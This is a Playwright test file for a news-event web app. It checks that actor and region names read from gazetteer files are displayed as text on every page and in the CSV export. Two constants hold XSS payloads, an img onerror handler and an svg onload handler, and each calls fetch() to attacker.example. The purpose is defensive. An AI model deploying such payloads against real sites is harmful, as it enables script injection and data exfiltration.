import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { ingestNow, ROOT, startApp, type App } from './startApp';

/**
 * Actor and region names come from users' gazetteer files as well as from articles: tests/fixtures/hostile
 * names an actor and a place with markup and scripts aimed at attacker.example. Everywhere the app shows
 * them (filters, lanes, the panel, the list, the event page's title and preview metadata, the article view),
 * they are text: no element is made from them, no script runs, nothing goes to the attacker.
 */

const FIXTURES = join(ROOT, 'tests/fixtures/hostile/names');
const ACTOR = `<img src=x onerror="fetch('https://attacker.example/actor')"> Brigade`;
const REGION = `<svg onload="fetch('https://attacker.example/region')">Camp</svg>`;

let dir: string;
let app: App;

test.beforeAll(async () => {
	dir = mkdtempSync(join(tmpdir(), 'dateline-hostile-names-'));
	const store = join(dir, 'store.db');
	ingestNow([FIXTURES], store, ['--gazetteer', join(FIXTURES, 'gazetteer.json')]);
	app = await startApp(store);
});
test.afterAll(async () => {
	await app?.stop();
	rmSync(dir, { recursive: true, force: true });
});

function watch(page: Page): { dialogs: string[]; attacker: string[] } {
	const seen = { dialogs: [] as string[], attacker: [] as string[] };
	page.on('dialog', (d) => {
		seen.dialogs.push(d.message());
		void d.dismiss();
	});
	page.on('request', (r) => {
		if (r.url().includes('attacker.example')) seen.attacker.push(r.url());
	});
	return seen;
}

/** No element was made from the names: no image, no inline SVG outside the app's own icons, no handler. */
async function expectNoInjectedMarkup(page: Page): Promise<void> {
	expect(await page.locator('img[src="x"], svg[onload], [onerror], [onload]').count()).toBe(0);
}

test('hostile actor and region names stay text everywhere', async ({ page }) => {
	test.setTimeout(90_000);
	const seen = watch(page);

	await page.goto(`${app.url}/?lanes=actor`);
	await expect(page.locator('body')).toContainText(ACTOR);
	await expectNoInjectedMarkup(page);

	await page.goto(`${app.url}/?lanes=region`);
	await expect(page.locator('body')).toContainText(REGION);
	await expectNoInjectedMarkup(page);

	await page.goto(`${app.url}/list`);
	await expect(page.locator('tbody')).toContainText(ACTOR);
	await expect(page.locator('tbody')).toContainText(REGION);
	await expectNoInjectedMarkup(page);

	// The event page: the panel, the title and the preview metadata.
	const href = await page.locator('tbody a[href^="/events/"]').first().getAttribute('href');
	expect(href).toBeTruthy();
	await page.goto(`${app.url}${href}`);
	await expect(page.locator('.panel h2')).toBeVisible();
	await expect(page.locator('.panel')).toContainText(ACTOR);
	await expectNoInjectedMarkup(page);
	const description = await page.locator('meta[property="og:description"], meta[name="description"]').first().getAttribute('content');
	expect(description ?? '').not.toMatch(/<img|<svg/i);

	await page.goto(`${app.url}/articles/tessalit`);
	await expect(page.locator('.text')).toContainText('Kidal Brigade');
	await expectNoInjectedMarkup(page);

	const csv = await (await page.request.get(`${app.url}/download/events.csv`)).text();
	expect(csv).toContain('Brigade');

	expect(seen.dialogs).toEqual([]);
	expect(seen.attacker).toEqual([]);
});
